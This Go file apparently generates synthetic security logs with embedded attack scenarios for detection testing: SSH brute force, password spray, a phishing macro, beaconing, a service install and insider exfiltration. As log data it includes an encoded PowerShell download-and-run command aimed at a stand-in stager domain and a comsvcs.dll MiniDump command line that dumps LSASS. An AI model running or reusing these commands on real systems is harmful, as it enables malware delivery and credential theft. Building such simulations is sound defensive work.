package generate

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
	"unicode/utf16"

	"trawl/event"
)

// scenarioDef is one embedded attack. run emits its records (they may span hours) and names
// its entities; the generator records its time range, record count and files.
type scenarioDef struct {
	order       int
	name        string
	techniques  []string // ATT&CK ids, the main one first
	description string
	run         func(g *gen, tr *Truth)
}

// Attacker addresses are in the RFC 5737 documentation range 203.0.113.0/24.
const (
	bruteIP   = "203.0.113.45"
	sprayIP   = "203.0.113.99"
	stagerIP  = "203.0.113.80"
	c2IP      = "203.0.113.200"
	stagerDNS = "cdn.invoice-share.net"
	c2DNS     = "sync.cloud-telemetry.net"
	exfilIP   = "162.125.6.20"
	exfilDNS  = "content.dropboxapi.com"
)

// The victims: the phished user and the insider are fixed so the scenarios tell one story
// (phishing on WS07 → beacon → LSASS dump → service on SQL01 with a stolen admin password).
const (
	victimIndex  = 6  // users[6] on WS07
	insiderIndex = 21 // users[21] on WS22
	adminIndex   = 35 // the admin whose password is dumped from WS07
	helpdeskIdx  = 34 // the admin who disables the insider's account
)

var scenarios = []scenarioDef{
	{0, "ssh-bruteforce", []string{"T1110.001", "T1021.004"},
		"Internet host guesses SSH passwords on bastion01 (root, admin and invented users), then logs in as deploy and tries sudo.", sshBruteforce},
	{1, "password-spray", []string{"T1110.003"},
		"One external address tries two common passwords against every domain account on APP01 (NTLM network logons) and gets one in.", passwordSpray},
	{2, "encoded-powershell", []string{"T1059.001", "T1027.010", "T1566.001"},
		"A macro document opened from Outlook on WS07 starts a hidden PowerShell with -EncodedCommand that downloads and drops an implant.", encodedPowerShell},
	{3, "beaconing", []string{"T1071.001", "T1573"},
		"The implant on WS07 calls its command server every five minutes (±10% jitter) over HTTPS for a day and a half.", beaconing},
	{4, "lsass-access", []string{"T1003.001"},
		"Through the implant, rundll32 with comsvcs.dll MiniDump opens lsass.exe with full access on WS07 and writes a dump file.", lsassAccess},
	{5, "new-service", []string{"T1543.003", "T1569.002", "T1021.002"},
		"With the dumped admin password the attacker logs on to SQL01 over SMB from WS07 and installs an auto-start service running a dropped binary.", newService},
	{6, "insider-exfil", []string{"T1567.002", "T1039", "T1560.001"},
		"An employee copies hundreds of files from the Finance and Contracts shares, archives them, uploads gigabytes to cloud storage, resigns and has the account disabled (4725).", insiderExfil},
}

func sshBruteforce(g *gen, tr *Truth) {
	h := g.w.bastion
	t := g.at(0.12, 2)
	g.entity("ip", bruteIP)
	g.entity("host", h.Name)
	g.entity("user", "deploy")
	names := []string{"root", "root", "root", "admin", "oracle", "test", "ubuntu", "postgres", "git", "user", "ftpuser", "pi", "support", "deploy"}
	attempts := 180 + g.r.IntN(60)
	pid := 21000 + g.r.IntN(5000)
	port := g.ephemeralPort()
	for i := 0; i < attempts; i++ {
		if i%3 == 0 { // a new connection every three tries
			if i > 0 {
				g.syslog(t, h, "sshd", pid, fmt.Sprintf("Connection closed by %s port %d [preauth]", bruteIP, port))
			}
			pid += 1 + g.r.IntN(3)
			port = g.ephemeralPort()
			g.zeekConn(t, conn{SrcIP: bruteIP, SrcPort: port, DstIP: h.IP, DstPort: 22, Proto: "tcp", Service: "ssh",
				Duration: time.Duration(2+g.r.IntN(6)) * time.Second, OrigB: 1800 + int64(g.r.IntN(600)), RespB: 2200 + int64(g.r.IntN(600))})
		}
		name := names[g.r.IntN(len(names)-1)] // never "deploy" until the end
		t = t.Add(time.Duration(1500+g.r.IntN(6000)) * time.Millisecond)
		if name == "root" {
			g.syslog(t, h, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root", bruteIP))
			g.syslog(t.Add(2*time.Second), h, "sshd", pid, fmt.Sprintf("Failed password for root from %s port %d ssh2", bruteIP, port))
		} else if name == "admin" || name == "test" || name == "user" || name == "pi" || name == "support" || name == "ftpuser" || name == "oracle" {
			g.syslog(t, h, "sshd", pid, fmt.Sprintf("Invalid user %s from %s port %d", name, bruteIP, port))
			g.syslog(t, h, "sshd", pid, fmt.Sprintf("input_userauth_request: invalid user %s [preauth]", name))
			g.syslog(t, h, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown")
			g.syslog(t, h, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s ", bruteIP))
			g.syslog(t.Add(2*time.Second), h, "sshd", pid, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", name, bruteIP, port))
		} else {
			g.syslog(t, h, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s", bruteIP, name))
			g.syslog(t.Add(2*time.Second), h, "sshd", pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", name, bruteIP, port))
		}
	}
	// The guess that works.
	pid += 2
	port = g.ephemeralPort()
	t = t.Add(40 * time.Second)
	g.zeekConn(t, conn{SrcIP: bruteIP, SrcPort: port, DstIP: h.IP, DstPort: 22, Proto: "tcp", Service: "ssh",
		Duration: 14 * time.Minute, OrigB: 48000, RespB: 151000})
	g.syslog(t.Add(2*time.Second), h, "sshd", pid, fmt.Sprintf("Accepted password for deploy from %s port %d ssh2", bruteIP, port))
	g.syslog(t.Add(2*time.Second), h, "sshd", pid, "pam_unix(sshd:session): session opened for user deploy by (uid=0)")
	g.syslog(t.Add(2*time.Second), h, "systemd-logind", 612, "New session 3107 of user deploy.")
	g.syslog(t.Add(95*time.Second), h, "sudo", 0, "  deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
	g.syslog(t.Add(14*time.Minute), h, "sshd", pid, fmt.Sprintf("Received disconnect from %s port %d:11: disconnected by user", bruteIP, port))
	g.syslog(t.Add(14*time.Minute), h, "sshd", pid, "pam_unix(sshd:session): session closed for user deploy")
}

func passwordSpray(g *gen, tr *Truth) {
	h := g.w.servers[2] // APP01, published to the Internet
	t := g.at(0.27, 22)
	g.entity("ip", sprayIP)
	g.entity("host", h.Name)
	hit := g.w.users[17]
	g.entity("user", hit.Name)
	var names []string
	for _, u := range g.w.users {
		names = append(names, u.Name)
	}
	names = append(names, "administrator", "svc_backup", "scanner")
	for round := 0; round < 2; round++ { // two passwords, each tried once per account
		for _, n := range names {
			t = t.Add(time.Duration(8+g.r.IntN(25)) * time.Second)
			port := g.ephemeralPort()
			g.zeekConn(t, conn{SrcIP: sprayIP, SrcPort: port, DstIP: h.IP, DstPort: 443, Proto: "tcp", Service: "ssl",
				Duration: time.Duration(300+g.r.IntN(900)) * time.Millisecond, OrigB: 2100 + int64(g.r.IntN(300)), RespB: 4800 + int64(g.r.IntN(500))})
			l := logonInfo{Host: h, User: n, LogonType: 3, SrcIP: sprayIP, SrcPort: port, Workstation: "WIN-R4ND0M", AuthPackage: "NTLM"}
			if round == 1 && n == hit.Name {
				l.SID = hit.SID()
				g.logonSuccess(t.Add(150*time.Millisecond), l)
				continue
			}
			sub := "0xc000006a"
			if _, ok := g.w.byName[n]; !ok && n != "administrator" {
				sub = "0xc0000064"
			}
			g.logonFailure(t.Add(150*time.Millisecond), l, sub)
		}
		t = t.Add(20 * time.Minute)
	}
}

// utf16Base64 encodes s the way powershell.exe -EncodedCommand expects (UTF-16LE, base64).
func utf16Base64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// victim returns the phished user and WS07, and the implant process there.
func (g *gen) victim() (*user, *host, *proc) {
	u := g.w.users[victimIndex]
	h := u.WS
	implant := &proc{Host: h, PID: 7412, Image: `C:\Users\` + u.Name + `\AppData\Roaming\Microsoft\Windows\msupdate.exe`,
		CommandLine: `"C:\Users\` + u.Name + `\AppData\Roaming\Microsoft\Windows\msupdate.exe" -s`,
		User:        domainNetBIOS + `\` + u.Name, UserSID: u.SID(), LogonID: logonID(h, u.Name), Integrity: "Medium"}
	implant.GUID = h.processGUID(implant.PID, 0x7412)
	return u, h, implant
}

// The phishing chain starts at 40% of the period, 10:xx.
func (g *gen) phishTime() time.Time { return g.at(0.40, 10) }

func encodedPowerShell(g *gen, tr *Truth) {
	u, h, implant := g.victim()
	t := g.phishTime()
	g.entity("host", h.Name)
	g.entity("user", u.Name)
	g.entity("ip", stagerIP)
	g.entity("domain", stagerDNS)
	g.entity("process", "powershell.exe")
	outlook := g.newProc(h, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `, u.Name, nil)
	word := g.newProc(h, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\`+u.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7ZK2M1P\Invoice_2026-0231.docm" /o ""`, u.Name, outlook)
	g.processCreate(t, word)
	script := fmt.Sprintf("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');"+
		"$b=$w.DownloadData('http://%s/dl/inv.bin');[IO.File]::WriteAllBytes(\"$env:APPDATA\\Microsoft\\Windows\\msupdate.exe\",$b);"+
		"Start-Process \"$env:APPDATA\\Microsoft\\Windows\\msupdate.exe\" -ArgumentList '-s' -WindowStyle Hidden", stagerDNS)
	ps := g.newProc(h, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -NoP -NonI -W Hidden -Enc "+utf16Base64(script), u.Name, word)
	t = t.Add(time.Duration(20+g.r.IntN(20)) * time.Second)
	g.processCreate(t, ps)
	t = t.Add(1200 * time.Millisecond)
	g.dnsQuery(t, ps, stagerDNS, []string{stagerIP})
	g.zeekDNS(t, h.IP, g.ephemeralPort(), stagerDNS, []string{stagerIP}, 300)
	port := g.ephemeralPort()
	t = t.Add(80 * time.Millisecond)
	g.networkConnect(t, ps, "tcp", h.IP, port, stagerIP, 80, stagerDNS)
	g.zeekConn(t, conn{SrcIP: h.IP, SrcPort: port, DstIP: stagerIP, DstPort: 80, Proto: "tcp", Service: "http",
		Duration: 2100 * time.Millisecond, OrigB: 412, RespB: 318464})
	t = t.Add(2500 * time.Millisecond)
	g.fileCreate(t, ps, implant.Image)
	implant.Parent = ps
	g.processCreate(t.Add(300*time.Millisecond), implant)
}

func beaconing(g *gen, tr *Truth) {
	_, h, implant := g.victim()
	t := g.phishTime().Add(90 * time.Second)
	g.entity("host", h.Name)
	g.entity("ip", c2IP)
	g.entity("domain", c2DNS)
	g.entity("process", event.BaseName(implant.Image))
	stop := t.Add(36 * time.Hour)
	if stop.After(g.end) {
		stop = g.end
	}
	for i := 0; t.Before(stop); i++ {
		if i%12 == 0 {
			g.dnsQuery(t, implant, c2DNS, []string{c2IP})
			g.zeekDNS(t, h.IP, g.ephemeralPort(), c2DNS, []string{c2IP}, 3600)
		}
		port := g.ephemeralPort()
		ct := t.Add(40 * time.Millisecond)
		g.networkConnect(ct, implant, "tcp", h.IP, port, c2IP, 443, c2DNS)
		g.zeekConn(ct, conn{SrcIP: h.IP, SrcPort: port, DstIP: c2IP, DstPort: 443, Proto: "tcp", Service: "ssl",
			Duration: time.Duration(180+g.r.IntN(120)) * time.Millisecond, OrigB: 640 + int64(g.r.IntN(200)), RespB: 230 + int64(g.r.IntN(90))})
		// 300 s ± 10%.
		t = t.Add(270*time.Second + time.Duration(g.r.IntN(60000))*time.Millisecond)
	}
}

func lsassAccess(g *gen, tr *Truth) {
	u, h, implant := g.victim()
	t := g.phishTime().Add(3*time.Hour + time.Duration(g.r.IntN(1800))*time.Second)
	g.entity("host", h.Name)
	g.entity("user", u.Name)
	g.entity("process", "rundll32.exe", "lsass.exe")
	cmd := g.newProc(h, `C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c tasklist /fi "imagename eq lsass.exe"`, u.Name, implant)
	cmd.Integrity = "High"
	g.processCreate(t, cmd)
	lsassPID := 640 + 4*int(fnvHash(h.Name)%40)
	dump := `C:\Windows\Temp\dbg` + fmt.Sprint(g.r.IntN(9000)+1000) + `.dmp`
	rd := g.newProc(h, `C:\Windows\System32\rundll32.exe`,
		fmt.Sprintf(`"C:\Windows\System32\rundll32.exe" C:\windows\System32\comsvcs.dll, MiniDump %d %s full`, lsassPID, dump), u.Name, implant)
	rd.Integrity = "High"
	t = t.Add(time.Duration(30+g.r.IntN(60)) * time.Second)
	g.processCreate(t, rd)
	t = t.Add(90 * time.Millisecond)
	g.processAccess(t, rd, `C:\Windows\system32\lsass.exe`, lsassPID, "0x1FFFFF",
		`C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2be8e|C:\windows\System32\comsvcs.dll+8b0a5|C:\Windows\System32\rundll32.exe+3bc4|C:\Windows\System32\KERNEL32.DLL+17034|C:\Windows\SYSTEM32\ntdll.dll+52651`)
	g.objectAccess(t.Add(5*time.Millisecond), rd, "Process", `\Device\HarddiskVolume2\Windows\System32\lsass.exe`, "0x10")
	g.fileCreate(t.Add(400*time.Millisecond), rd, dump)
}

func newService(g *gen, tr *Truth) {
	_, ws, implant := g.victim()
	admin := g.w.users[adminIndex]
	h := g.w.sqlServer
	t := g.phishTime().Add(5*time.Hour + time.Duration(g.r.IntN(1800))*time.Second)
	name := "WinSysUpd"
	image := `%SystemRoot%\Temp\wsysupd.exe`
	g.entity("host", h.Name, ws.Name)
	g.entity("user", admin.Name)
	g.entity("service", name)
	g.entity("process", "wsysupd.exe")
	port := g.ephemeralPort()
	g.networkConnect(t, implant, "tcp", ws.IP, port, h.IP, 445, h.FQDN())
	g.zeekConn(t, conn{SrcIP: ws.IP, SrcPort: port, DstIP: h.IP, DstPort: 445, Proto: "tcp", Service: "smb,gssapi",
		Duration: 6 * time.Second, OrigB: 402113, RespB: 9120})
	t = t.Add(300 * time.Millisecond)
	l := logonInfo{Host: h, User: admin.Name, SID: admin.SID(), LogonType: 3, SrcIP: ws.IP, SrcPort: port, Workstation: ws.Name, AuthPackage: "NTLM"}
	g.logonSuccess(t, l)
	g.specialPrivileges(t, h, admin.Name, admin.SID())
	t = t.Add(2 * time.Second)
	g.serviceInstalled(t, h, name, image, "auto start", "LocalSystem")
	g.serviceInstalledSecurity(t, h, admin.Name, admin.SID(), name, image, "auto start")
	svc := g.newProc(h, `C:\Windows\Temp\wsysupd.exe`, `C:\Windows\Temp\wsysupd.exe`, "SYSTEM", nil)
	g.processCreate(t.Add(600*time.Millisecond), svc)
	g.serviceState(t.Add(time.Second), h, name, "running")
	g.logoff(t.Add(4*time.Second), h, admin.Name, admin.SID(), 3)
}

func insiderExfil(g *gen, tr *Truth) {
	u := g.w.users[insiderIndex]
	h := u.WS
	fs := g.w.fileServer
	admin := g.w.users[helpdeskIdx]
	t := g.at(0.58, 17)
	g.entity("user", u.Name)
	g.entity("host", h.Name, fs.Name)
	g.entity("ip", exfilIP)
	g.entity("domain", exfilDNS)
	g.entity("process", "robocopy.exe", "7z.exe")
	stage := `C:\Users\` + u.Name + `\Documents\backup`
	for _, share := range []string{"Finance", "Contracts"} {
		port := g.ephemeralPort()
		g.logonSuccess(t, logonInfo{Host: fs, User: u.Name, SID: u.SID(), LogonType: 3, SrcIP: h.IP, SrcPort: port, Workstation: h.Name})
		g.shareAccess(t.Add(20*time.Millisecond), fs, u, h.IP, share)
		rc := g.newProc(h, `C:\Windows\System32\Robocopy.exe`,
			fmt.Sprintf(`robocopy \\%s\%s %s\%s /E /R:0 /W:0 /NP`, fs.FQDN(), share, stage, share), u.Name, nil)
		g.processCreate(t.Add(time.Second), rc)
		var total int64
		ft := t.Add(2 * time.Second)
		files := 140 + g.r.IntN(60)
		for i := 0; i < files; i++ {
			ft = ft.Add(time.Duration(200+g.r.IntN(2500)) * time.Millisecond)
			g.fileCreate(ft, rc, fmt.Sprintf(`%s\%s\%s`, stage, share, g.docName(share, i)))
			total += 200_000 + int64(g.r.IntN(9_000_000))
		}
		g.zeekConn(t.Add(time.Second), conn{SrcIP: h.IP, SrcPort: port, DstIP: fs.IP, DstPort: 445, Proto: "tcp", Service: "smb",
			Duration: ft.Sub(t), OrigB: int64(files) * 2400, RespB: total})
		t = ft.Add(time.Duration(2+g.r.IntN(5)) * time.Minute)
	}
	z := g.newProc(h, `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -mx3 -pWinter2026 `+stage+`\archive.7z `+stage+`\*`, u.Name, nil)
	g.processCreate(t, z)
	g.fileCreate(t.Add(3*time.Minute), z, stage+`\archive.7z`)
	// The upload, the next evening, in several large HTTPS connections.
	t = t.Add(24*time.Hour + time.Duration(g.r.IntN(3600))*time.Second)
	br := g.browserProc(h, u)
	g.dnsQuery(t, br, exfilDNS, []string{exfilIP})
	g.zeekDNS(t, h.IP, g.ephemeralPort(), exfilDNS, []string{exfilIP}, 60)
	for i := 0; i < 6; i++ {
		port := g.ephemeralPort()
		t = t.Add(time.Duration(5+g.r.IntN(20)) * time.Second)
		d := time.Duration(280+g.r.IntN(200)) * time.Second
		g.networkConnect(t, br, "tcp", h.IP, port, exfilIP, 443, exfilDNS)
		g.zeekConn(t, conn{SrcIP: h.IP, SrcPort: port, DstIP: exfilIP, DstPort: 443, Proto: "tcp", Service: "ssl",
			Duration: d, OrigB: 350_000_000 + int64(g.r.IntN(150_000_000)), RespB: 90_000 + int64(g.r.IntN(40_000))})
		t = t.Add(d)
	}
	// Two days later the resignation is processed: the account is disabled on her last day,
	// which the identities context file gives as her leave date.
	last := g.at(0.86, 9)
	g.leaving[u.Name] = last
	g.accountDisabled(last, admin, u)
}

var docWords = map[string][]string{
	"Finance":   {"Budget", "Forecast", "Payroll", "Invoices", "Ledger", "Audit", "Tax", "Expenses"},
	"Contracts": {"MSA", "NDA", "Pricing", "Carrier", "Customer", "Lease", "Renewal", "SLA"},
}

func (g *gen) docName(share string, i int) string {
	words := docWords[share]
	ext := []string{".xlsx", ".pdf", ".docx", ".xlsx", ".pdf"}[g.r.IntN(5)]
	return fmt.Sprintf("%s_%s_%d_%03d%s", words[g.r.IntN(len(words))], strings.ToUpper(share[:3]), 2020+i%7, i, ext)
}
